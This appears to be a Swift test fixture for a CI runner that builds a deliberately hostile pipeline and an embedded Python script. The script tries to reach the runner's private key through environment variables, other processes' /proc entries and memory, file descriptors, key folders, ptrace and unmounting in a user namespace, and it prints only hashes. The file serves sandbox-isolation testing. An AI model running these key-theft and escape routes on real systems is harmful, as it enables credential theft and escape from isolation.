import Foundation

/// A journey whose steps try every route to the private key we know of. Each step prints
/// `digest ROUTE SHA256` for every blob it managed to read (and `note ROUTE …` for what it
/// tried), so a test can tell whether the key was reached without the key being printed.
enum HostileJourney {
    /// The routes, one step each.
    static let routes = ["env", "cmdline", "environ", "ancestors", "fd", "keyfolder", "paths", "ptrace", "devices", "unmount"]

    /// The journey; `knownPaths` are paths the attacker guessed (where runners keep keys).
    static func yaml(knownPaths: [String]) -> String {
        var text = "name: hostile\ndescription: a branch that tries to read the runner's key\nsteps:\n"
        for route in routes {
            text += "  - name: \(route)\n    run: python3 hostile.py \(route) \(knownPaths.joined(separator: " "))\n"
        }
        return text
    }

    static let script = #"""
        import ctypes, hashlib, os, re, stat, sys

        KEY = re.compile(rb"JOURNEY-SECRET-KEY-1-[A-Za-z0-9_-]{20,}")
        route, known = sys.argv[1], sys.argv[2:]
        ROUTES = ["env", "cmdline", "environ", "ancestors", "fd", "keyfolder", "paths", "ptrace", "devices", "unmount"]
        me = os.getpid()

        def digest(what, data):
            if isinstance(data, str):
                data = data.encode()
            print("digest", route, what, hashlib.sha256(data).hexdigest(), flush=True)
            for match in KEY.findall(data):
                print("digest", route, what + ":token", hashlib.sha256(match).hexdigest(), flush=True)

        def note(text):
            print("note", route, text, flush=True)

        def read(path, limit=1 << 20):
            try:
                with open(path, "rb") as f:
                    return f.read(limit)
            except OSError as error:
                note("%s: %s" % (path, error.strerror))
                return None

        def pids():
            return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)

        def parent(pid):
            data = read("/proc/%d/status" % pid) or b""
            for line in data.splitlines():
                if line.startswith(b"PPid:"):
                    return int(line.split()[1])
            return 0

        def ancestors():
            chain, pid = [], parent(me)
            while pid > 0 and len(chain) < 3:
                chain.append(pid)
                pid = parent(pid)
            return chain

        def key_paths_in(cmdline, environ):
            args = cmdline.split(b"\0")
            paths = [args[i + 1] for i, a in enumerate(args[:-1]) if a == b"--key-file"]
            paths += [a[len(b"--key-file="):] for a in args if a.startswith(b"--key-file=")]
            for entry in environ.split(b"\0"):
                if entry.startswith(b"JOURNEY_KEY_FILE="):
                    paths.append(entry.split(b"=", 1)[1])
            return [p.decode(errors="replace") for p in paths if p]

        def environ_values(pid):
            data = read("/proc/%d/environ" % pid)
            if data is None:
                return b""
            for entry in data.split(b"\0"):
                if entry.startswith(b"JOURNEY_KEY"):
                    digest("environ-%d" % pid, entry.split(b"=", 1)[-1])
            return data

        def memory(pid):
            maps = read("/proc/%d/maps" % pid)
            if maps is None:
                return
            digest("maps-%d" % pid, maps)
            try:
                mem = open("/proc/%d/mem" % pid, "rb")
            except OSError as error:
                note("mem %d: %s" % (pid, error.strerror))
                return
            found = 0
            for line in maps.decode(errors="replace").splitlines():
                fields = line.split()
                if len(fields) < 2 or "r" not in fields[1] or line.endswith(("[vvar]", "[vsyscall]", "[vvar_vclock]")):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if end - start > 256 << 20:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                for match in KEY.findall(chunk):
                    found += 1
                    digest("mem-%d" % pid, match)
            note("mem %d read, %d key-shaped strings" % (pid, found))

        def read_file_digest(what, path):
            data = read(path)
            if data is not None:
                digest(what, data)

        def attack():
            if route == "env":
                for name, value in os.environ.items():
                    if name.startswith("JOURNEY_KEY"):
                        digest("env-" + name, value)
                        if name == "JOURNEY_KEY_FILE":
                            read_file_digest("env-file", value)
                note("%d JOURNEY_KEY variables" % sum(1 for n in os.environ if n.startswith("JOURNEY_KEY")))
            elif route == "cmdline":
                for pid in pids():
                    cmdline = read("/proc/%d/cmdline" % pid) or b""
                    digest("cmdline-%d" % pid, cmdline)
                    for path in key_paths_in(cmdline, b""):
                        note("key path from cmdline of %d: %s" % (pid, path))
                        read_file_digest("cmdline-file", path)
            elif route == "environ":
                for pid in pids():
                    data = environ_values(pid)
                    for path in key_paths_in(b"", data):
                        read_file_digest("environ-file", path)
            elif route == "ancestors":
                chain = ancestors()
                note("ancestors %s" % chain)
                for pid in chain + [1]:
                    environ_values(pid)
                    memory(pid)
                    root = "/proc/%d/root" % pid
                    for path in known:
                        read_file_digest("root-%d" % pid, root + path)
            elif route == "fd":
                for pid in pids():
                    folder = "/proc/%d/fd" % pid
                    try:
                        fds = os.listdir(folder)
                    except OSError as error:
                        note("%s: %s" % (folder, error.strerror))
                        continue
                    for fd in fds:
                        try:
                            target = os.readlink(folder + "/" + fd)
                        except OSError:
                            continue
                        if target.startswith("/") and not target.startswith("/dev/"):
                            read_file_digest("fd-%d" % pid, folder + "/" + fd)
            elif route == "keyfolder":
                folders = [os.path.expanduser("~/.config/journey/keys")]
                if os.environ.get("XDG_CONFIG_HOME"):
                    folders.append(os.environ["XDG_CONFIG_HOME"] + "/journey/keys")
                folders += [os.path.dirname(p) for p in known]
                for folder in folders:
                    try:
                        names = os.listdir(folder)
                    except OSError as error:
                        note("%s: %s" % (folder, error.strerror))
                        continue
                    for name in names:
                        read_file_digest("keyfolder", folder + "/" + name)
            elif route == "paths":
                for path in known:
                    read_file_digest("known-path", path)
            elif route == "ptrace":
                libc = ctypes.CDLL(None, use_errno=True)
                libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
                for pid in set(ancestors() + [1]):
                    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
                        note("attached %d" % pid)
                        os.waitpid(pid, 0x40000000)  # __WALL
                        memory(pid)
                        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
                    else:
                        note("ptrace %d: %s" % (pid, os.strerror(ctypes.get_errno())))
            elif route == "unmount":
                # A user namespace of its own gives capabilities there: try to lift what covers
                # the key (the kernel locks mounts inherited from a more privileged namespace).
                libc = ctypes.CDLL(None, use_errno=True)
                if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
                    note("unshare: %s" % os.strerror(ctypes.get_errno()))
                for path in known + [os.path.dirname(p) for p in known] + ["/proc"]:
                    if libc.umount2(path.encode(), 2) == 0:  # MNT_DETACH
                        note("unmounted %s" % path)
                for path in known:
                    read_file_digest("after-unmount", path)
                for pid in pids():
                    environ_values(pid)
            elif route == "devices":
                blocks = []
                for name in os.listdir("/dev"):
                    try:
                        if stat.S_ISBLK(os.stat("/dev/" + name).st_mode):
                            blocks.append(name)
                    except OSError:
                        pass
                note("block devices %d" % len(blocks))

        for route in (ROUTES if route == "all" else [route]):
            attack()
        """#
}
